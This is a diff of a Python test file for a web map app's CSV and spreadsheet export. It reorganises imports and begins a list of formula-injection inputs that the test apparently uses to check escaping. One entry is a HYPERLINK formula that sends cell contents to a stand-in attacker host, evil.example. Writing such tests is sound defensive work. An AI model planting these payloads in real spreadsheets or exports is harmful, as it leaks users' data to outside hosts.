@@ -14,14 +14,15 @@ import csv
 import http.cookiejar
 import io
 import re
-import sys
 import urllib.parse
 import urllib.request
 from pathlib import Path
 
 import pytest
+from admin_helpers import PASSWORD, place_fields, post_form, unique
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from served import served_app
 
 from layers.files.place_files import FORMULA_START, spreadsheet_cell
 from layers.store.database import open_database
@@ -29,13 +30,6 @@ from layers.store.place_io import export_places
 from layers.store.users import UserStore
 from webmap.web.base import app_state
 from webmap.web.planner.results import scenario_csv, scenario_outcome
-
-TESTS = Path(__file__).resolve().parents[1]
-sys.path[:0] = [str(TESTS), str(TESTS / "layers"), str(TESTS / "webmap")]
-pytest_plugins = ["conftest_db", "conftest_admin"]
-
-from admin_helpers import PASSWORD, place_fields, post_form, unique  # noqa: E402
-from served import served_app  # noqa: E402
 
 #: What a hostile editor (or a hostile upload) puts into a text field.
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"詳しくはこちら\")", "+1+1", "-2+3",
